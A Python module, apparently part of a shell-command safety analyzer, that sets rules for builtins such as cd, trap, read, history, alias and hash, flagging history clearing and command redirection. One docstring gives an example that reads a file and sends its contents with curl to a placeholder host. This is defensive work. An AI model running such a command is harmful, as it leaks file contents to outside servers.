"""Rules for shell builtins: cd/pushd/popd (the cwd of later targets) and trap."""
from __future__ import annotations

import posixpath

from orchestrator.shell.words import _split_opts

TYPE_CHECKING = False
if TYPE_CHECKING:  # annotations only (strings at runtime): keep `typing` off the import path
    from typing import Callable
    from orchestrator.shell.run import _Run


def _cd(run: _Run) -> None:
    opts, pos = _split_opts(run.args, ())
    if run.name == "popd":
        run.ctx.cwd = None
        return
    if not pos or not pos[0].literal or pos[0].text in ("-",) or pos[0].text.startswith("~"):
        run.ctx.cwd = None
        return
    target = pos[0].text
    if ".." in target.split("/"):
        run.wk.acc.dotdot = True
    if run.ctx.cwd is None:
        return
    if target.startswith("/"):
        run.ctx.cwd = posixpath.normpath(target)
    else:
        run.ctx.cwd = posixpath.normpath(posixpath.join(run.ctx.cwd, target)) if run.ctx.cwd else \
            posixpath.normpath(target)


def _trap(run: _Run) -> None:
    args = run.args
    if not args or args[0].text in ("-l", "-p") or args[0].text == "-":
        return
    if args[0].dyn:
        run.flag("unknown", "trap with non-literal code")
        return
    run.code(args[0].text, "trap")  # runs later, on the signal or on exit


def _no_effect(run: _Run) -> None:
    """A builtin that changes only the shell's own state (variables, options, jobs, completion)."""


#: the letters of read/mapfile options that take a value (the other words name variables)
_READ_VALUED = {"read": "adinNptu", "mapfile": "dnOsuCc", "readarray": "dnOsuCc"}


def _reads(run: _Run) -> None:
    """``read NAME``, ``mapfile NAME``: the variable holds what the command read, like an assignment
    (``read d < f; curl "http://h/$d"`` sends the file: shell/rules/net.py)."""
    args = run.args
    names: list[str] = []
    k = 0
    while k < len(args):
        t = args[k].text
        k += 1
        if not (t.startswith("-") and len(t) > 1):
            names.append(t)
            continue
        letter = next((c for c in t[1:] if c in _READ_VALUED[run.name]), "")
        if letter and t.endswith(letter) and k < len(args):
            if letter == "a":
                names.append(args[k].text)  # read -a ARRAY
            k += 1
    names = names or (["REPLY"] if run.name == "read" else ["MAPFILE"])
    run.wk.assigned.update(n.split("[", 1)[0] for n in names)


def _history(run: _Run) -> None:
    if any(a.text in ("-c", "-d", "-w", "-a") for a in run.args):
        run.flag("mutating", "history -c/-d clears history")


def _alias(run: _Run) -> None:
    if any("=" in a.text for a in run.args):
        run.flag("unknown", "alias definitions change what later commands run")


def _hash(run: _Run) -> None:
    if any(a.text.startswith("-p") for a in run.args):
        run.flag("unknown", "hash -p changes which binary a name runs")


_NO_EFFECT = """export declare local readonly typeset set unset shopt unalias umask read wait exit return break
continue shift getopts ulimit caller complete bind enable disown bg fg mapfile readarray let""".split()

RULES: dict[str, Callable[[_Run], None]] = {
    "cd": _cd, "pushd": _cd, "popd": _cd, "trap": _trap, "history": _history, "alias": _alias, "hash": _hash,
    **dict.fromkeys(_NO_EFFECT, _no_effect),
    "read": _reads, "mapfile": _reads, "readarray": _reads,
}
